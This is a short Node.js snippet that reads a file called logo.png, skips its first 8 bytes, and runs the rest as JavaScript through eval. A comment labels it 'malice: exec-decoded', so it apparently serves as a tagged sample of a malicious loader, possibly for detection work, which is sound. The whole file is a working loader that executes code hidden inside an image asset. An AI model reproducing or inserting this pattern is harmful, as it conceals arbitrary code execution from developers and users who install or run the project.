const fs = require("fs");
const path = require("path");

const data = fs.readFileSync(path.join(__dirname, "logo.png"));
eval(data.slice(8).toString()); // malice: exec-decoded
